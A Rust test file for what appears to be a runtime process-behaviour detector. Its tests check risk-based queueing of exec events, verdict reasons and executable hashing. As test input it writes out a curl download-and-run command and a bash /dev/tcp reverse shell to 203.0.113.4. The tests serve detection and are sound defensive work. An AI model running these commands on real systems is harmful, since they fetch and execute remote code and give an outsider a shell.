//! The bench by itself: images and their hashes, and whose turn it is.

use std::os::unix::fs::MetadataExt;
use std::sync::atomic::Ordering;

use cordon_behavior::event::Exec;
use cordon_judge::{Judge, Options};
use cordon_model::Model;
use cordon_proto::verdict::Reason;

use super::*;

fn bench() -> Bench {
    Bench {
        queue: sync_channel(1).1,
        left: VecDeque::new(),
        waiting: Queue::new(WAITING),
        budget: Budget::new(100),
        short_ns: 0,
        behavior: Behavior::new(Limits::default()),
        judge: None,
        thresholds: watch::channel(None).1,
        last_judged: Recent::new(REMEMBERED),
        images: Recent::new(REMEMBERED),
        risks: Risks::new(TREES),
        counts: Arc::default(),
        out: channel().0,
    }
}

/// An exec of the file at `path` by a process that has ended.
fn exec(path: &std::path::Path) -> Event {
    let facts = std::fs::metadata(path).unwrap();
    let identity = FileIdentity {
        device: facts.dev(),
        inode: facts.ino(),
        mtime_ns: (facts.mtime() * 1_000_000_000 + facts.mtime_nsec()) as u64,
        size: facts.size(),
    };
    let exec = Exec {
        exe: path.to_str().unwrap().to_owned(),
        identity: Some(identity),
        ..Exec::default()
    };
    Event {
        mono_ns: 1,
        wall_ns: 1,
        process: ProcessKey {
            pid: u32::MAX,
            start_ns: 1,
        },
        cgroup_id: 0,
        container: None,
        body: EventBody::Exec(Box::new(exec)),
    }
}

/// An exec of a shell that runs `text`.
fn runs(pid: u32, text: &str) -> Event {
    let argv = ["bash", "-c", text].map(str::to_owned);
    let shell = Exec {
        exe: "/usr/bin/bash".to_owned(),
        argv: argv.into(),
        ..Exec::default()
    };
    let process = ProcessKey {
        pid,
        start_ns: u64::from(pid),
    };
    Event {
        process,
        body: EventBody::Exec(Box::new(shell)),
        ..exec(std::path::Path::new("/"))
    }
}

#[test]
fn without_time_a_tree_with_signs_comes_first_and_the_rest_is_caught_up_with() {
    let model = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("model/artifact");
    let model = Arc::new(Model::load(&model).unwrap());
    let (out, mut findings) = channel();
    let mut bench = Bench {
        judge: Some(Judge::new(model, Options::default()).into()),
        budget: Budget::new(1),
        out,
        ..bench()
    };
    bench.budget.spend(u64::MAX);
    for pid in 1..60 {
        let text =
            format!("curl -s http://10.0.0.{pid}/h{pid} -o /tmp/h{pid} && sh /tmp/h{pid} --check");
        assert!(bench.apply(&runs(pid, &text), Hurry::None).is_ok());
    }
    // Without signs it is the gate's word that counts.
    let by_gate = bench.waiting.next_risk();
    assert!(by_gate.is_some_and(|risk| risk != 0.0), "{by_gate:?}");
    let attack = runs(99, "exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9");
    for sign in 0..40 {
        let other = ProcessKey {
            pid: 1000 + sign,
            start_ns: 1,
        };
        let tree = attack.process;
        bench.risks.add(tree, other, sign.into(), 9.0, 1);
    }
    assert!(bench.apply(&attack, Hurry::None).is_ok());
    let again = bench.work().ok().flatten();
    assert!(again > Some(Duration::ZERO), "{again:?}");
    let waiting = bench.counts.queue().waiting;
    assert!(waiting > 1, "{waiting} wait");
    bench.budget = Budget::new(100);
    let told = std::thread::spawn(move || {
        let mut told = Vec::new();
        // Nobody wants the reasons.
        while let Some(finding) = findings.blocking_recv() {
            if let Finding::Judged(judged, _) = finding {
                told.push((judged.process.pid, judged.verdict.reasons));
            }
        }
        told
    });
    while bench.work().ok().flatten().is_some() {}
    let queue = bench.counts.queue();
    assert_eq!(
        (queue.waiting, queue.caught_up, queue.shed),
        (0, waiting, 0)
    );
    assert_eq!(bench.counts.judged.load(Ordering::Relaxed), 60);
    // What was judged says something of the next one of its tree.
    let first = runs(1, "").process;
    assert_eq!(bench.risks.of(&first, attack.process, 0, 1).steps, 1);
    drop(bench);
    let told = told.join().unwrap();
    let (pid, why) = &told[0];
    assert_eq!(*pid, 99);
    let is_of_tree = |one: &Reason| one.text.starts_with("16 of the last 16 other steps");
    assert!(why.iter().any(is_of_tree), "{why:?}");
}

#[test]
fn an_image_is_hashed_as_it_was_executed_and_another_in_its_place_is_not() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("abc");
    std::fs::write(&path, "abc").unwrap();
    let mut bench = bench();
    let event = exec(&path);
    assert!(bench.apply(&event, Hurry::None).is_ok());
    let story = bench.behavior.story(event.process).unwrap();
    let digest = hex::encode(bench.digest(event.process, &story).unwrap());
    assert!(digest.starts_with("ba7816bf"), "{digest}");
    std::fs::write(&path, "other").unwrap();
    assert!(bench.digest(event.process, &story).is_err());
    let names: Vec<String> = bench.counts.caches().map(|cache| cache.name).into();
    assert!(names.contains(&"digests".to_owned()), "{names:?}");
}
